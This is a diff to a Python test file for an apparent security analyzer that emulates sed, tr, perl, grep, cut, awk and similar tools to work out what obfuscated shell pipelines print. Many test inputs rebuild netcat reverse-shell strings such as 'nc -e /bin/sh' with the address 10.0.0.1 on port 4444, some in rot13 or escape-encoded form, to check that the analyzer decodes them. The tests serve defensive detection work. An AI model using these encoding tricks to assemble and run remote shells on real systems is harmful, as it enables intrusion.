@@ -34,12 +34,29 @@ from vigiles.analysis.decode import output_of
     (["-r", "s/(x|y)+/Z/"], "axyxb\n", "aZb\n"),
     (["s/\\(a\\|b\\)/X/g"], "abc\n", "XXc\n"),
     (["s/[[:upper:]]/x/g"], "AbC\n", "xbx\n"),
-    (["s/[\\]/X/"], "a\\b\n", "aXb\n"),                     # a backslash in brackets is a member
     (["s/ /\\n/g"], "a b\n", "a\nb\n"),
     (["s/a/\\&/"], "a\n", "&\n"),
     (["s/^/nc /"], "-e /bin/sh h 1\n", "nc -e /bin/sh h 1\n"),
     (["s/x/y/"], "no newline", "no newline"),
     (["s/a/b/", "-"], "a\n", "b\n"),
+    # GNU escapes, POSIX leftmost-longest, `.` across a newline in the pattern space, intervals
+    (["s/^/\\x6e/"], "c -e P\n", "nc -e P\n"),
+    (["s/^m/\\o156/"], "mc -e P\n", "nc -e P\n"),
+    (["s/^m/\\d110/"], "mc -e P\n", "nc -e P\n"),
+    (["s/n\\|nc/nc/"], "nc -e P\n", "nc -e P\n"),
+    (["-E", "s/a|ab/X/"], "ab\n", "X\n"),
+    (["s/X/\\n/;s/^.X/n/"], "XXc -e P\n", "nc -e P\n"),
+    (["s/n\\{,2\\}//"], "nnnc -e P\n", "nc -e P\n"),
+    (["y/mm/nx/"], "mc -e P\n", "nc -e P\n"),        # a character's first mapping
+    (["s&m&\\&&"], "mc\n", "&c\n"),                  # an escaped & delimiter is a plain &
+    (["s/n^c/nc/"], "n^c -e P\n", "nc -e P\n"),       # ^ inside a BRE is a plain character
+    (["s/\\s/X/g"], "a\vb\fc d\n", "aXbXcXd\n"),
+    # one address before a command, with or without !
+    (["1s/^m/n/"], "mc -e P\nmc x\n", "nc -e P\nmc x\n"),
+    (["-e", "s/^m/n/", "-e", "$!d"], "ab\nmc -e P\n", "nc -e P\n"),
+    (["/mc/!d"], "mc -e P\nab\n", "mc -e P\n"),
+    (["-n", "/x$/p"], "ab\nmc x\n", "mc x\n"),
+    (["1s/^m/n/;# a comment"], "mc\n", "nc\n"),
 ])
 def test_sed_prints_what_gnu_sed_prints(args, text, expected):
     assert sed.output(args, text) == expected
@@ -49,18 +66,26 @@ def test_sed_prints_what_gnu_sed_prints(args, text, expected):
 @pytest.mark.parametrize("args", [
     ["-i", "s/a/b/", "f"],        # in place: nothing printed, a file changed
     ["s/a/b/", "file"],           # the input is a file, not the pipe
-    ["-f", "x.sed"], ["1d"], ["/x/d"], ["{s/a/b/}"],
+    ["-f", "x.sed"], ["1,2d"], ["0~2d"], ["/a/,/b/d"], ["{s/a/b/}"],
     ["s/a/b/w out"], ["s/a/b/e"],  # writes a file; runs the pattern space
     ["s/a/\\U&/"], ["s//x/"], ["s/(a)/\\1/"], ["s/\\(a\\)\\1/x/"],
     ["s/a/b"], ["y/ab/c/"], ["-z", "s/a/b/"], [],
+    ["s/[\\]/X/"], ["s/\\<a/b/"], ["s/a\\b/c/"], ["-E", "s/a+?/X/"], ["--posix", "s/a/b/"],
+    ["s/\\(a\\|b\\)/\\1/"], ["s/\\(ab\\)*/\\1/"], ["s/a/b/99999999"], ["-E", "s/(?i)a/b/"],
 ])
 def test_what_sed_would_do_that_is_not_computed_is_unknown(args):
+    """(A wrong answer is worse than none: forms whose meaning GNU and RE2 do not share are unknown.)"""
     assert sed.output(args, "a\n") is None
 
 
 def test_sed_output_is_bounded_and_its_regexes_are_linear():
     doubling = ["-e", "s/./&&/g"] * 12  # 4,096 times longer
     assert sed.output(doubling, "x" * 1000 + "\n") is None
+    growth = "s/.*/&&&&&&&&&&/;" * 6 + "s/.*/" + "&" * 8000 + "/"  # 8 KB of script, gigabytes of output
+    assert sed.output([growth], "a\n") is None
+    assert sed.output(["-n", "s/.*/&&&&&&&&&&/;" * 6 + "y/a/b/;" * 40], "a\n" * 1000) is None
+    assert sed.output(["s/a/b/" + "1" * 5000], "a\n") is None            # a count past int()'s limit
+    assert sed.output(["s/a/b/"], "a\ud800\n") is None                   # not encodable: unknown, no crash
     assert sed.output(["s/(a+)+$/x/"], "a" * 50_000 + "b\n") == "a" * 50_000 + "b\n"
     assert sed.output(["-E", "s/(a+)+$/x/"], "a" * 50_000 + "b\n") == "a" * 50_000 + "b\n"
 
@@ -79,10 +104,17 @@ def test_tr_with_ranges_classes_and_deletion(args, expected):
     assert output_of("tr", args, "ap -r /ova/fu 10.0.0.1 4444\n") == expected
 
 
-@pytest.mark.parametrize("args", [["-c", "a", "b"], ["-s", "a"], ["z-a", "b"], ["[=a=]", "b"], ["[a*3]", "b"],
-                                  ["a", ""], ["[:nope:]", "b"]])
+def test_tr_squeezes_and_reads_octal_as_gnu_tr():
+    assert output_of("tr", ["-s", "n"], "nnnc -e P\n") == "nc -e P\n"
+    assert output_of("tr", ["k-\\155", "kln"], "mc -e P\n") == "nc -e P\n"   # an octal range end
+    assert output_of("tr", ["\\400", "x"], "@ 0\n") == "@xx\n"   # \40 (a space) then 0, as GNU reads it
+
+
+@pytest.mark.parametrize("args", [["-c", "a", "b"], ["z-a", "b"], ["[=a=]", "b"], ["[a*3]", "b"],
+                                  ["a", ""], ["[:nope:]", "b"], ["-d", "\\303\\243"], ["é", "e"]])
 def test_tr_forms_not_computed_are_unknown(args):
     assert output_of("tr", args, "abc\n") is None
+    assert output_of("tr", ["a", "b"], "nãc\n") is None  # GNU tr sees bytes
 
 
 PERL_INPUT = "ZZ -e /bin/sh 10.0.0.1 4444\nabc abc\n  x  \nlast"
@@ -107,3 +139,34 @@ def test_perl_substitutions_print_what_perl_prints(args, expected):
                                   ["-pe", "s/.*/echo \\1/"]])
 def test_perl_code_that_is_not_only_substitution_is_unknown(args):
     assert output_of("perl", args, PERL_INPUT) is None
+
+
+@pytest.mark.parametrize("name, args, text, expected", [
+    ("grep", ["nc"], "ls\nnc -e P\n", "nc -e P\n"),
+    ("grep", ["-v", "nc"], "ls\nnc -e P\n", "ls\n"),
+    ("grep", ["-iE", "^N|^x"], "ls\nnc -e P\nxy\n", "nc -e P\nxy\n"),
+    ("grep", ["-F", "."], "a.b\nab\n", "a.b\n"),
+    ("grep", ["-x", "-e", "ls", "-e", "id"], "ls\nls -l\nid\n", "ls\nid\n"),
+    ("grep", ["-q", "x"], "x\n", ""),
+    ("head", ["-n", "1"], "a\nb\n", "a\n"),
+    ("head", ["-2"], "a\nb\nc\n", "a\nb\n"),
+    ("tail", ["-n", "1"], "a\nb\n", "b\n"),
+    ("tail", ["-n", "+2"], "a\nb\nc\n", "b\nc\n"),
+    ("tac", [], "a\nb\n", "b\na\n"),
+    ("uniq", [], "a\na\nb\na\n", "a\nb\na\n"),
+    ("cut", ["-c2-"], "xnc -e P\n", "nc -e P\n"),
+    ("cut", ["-d", " ", "-f1,3"], "nc -e P\nno-space\n", "nc P\nno-space\n"),
+    ("cut", ["-f2"], "a\tb\n", "b\n"),
+    ("awk", ["{print}"], "a\nb", "a\nb\n"),
+    ("awk", ["1"], "a\n", "a\n"),
+])
+def test_line_filters_print_what_grep_coreutils_and_awk_print(name, args, text, expected):
+    assert output_of(name, args, text) == expected
+
+
+@pytest.mark.parametrize("name, args", [("grep", ["-o", "x"]), ("grep", ["-c", "x"]), ("grep", ["x", "file"]),
+                                        ("grep", ["-w", "x"]), ("head", ["-c", "2"]), ("tail", ["-f"]),
+                                        ("cut", ["-s", "-f1"]), ("awk", ["{print $1}"]), ("uniq", ["-c"]),
+                                        ("grep", ["-e"])])
+def test_line_filter_forms_not_computed_are_unknown(name, args):
+    assert output_of(name, args, "a x\n") is None
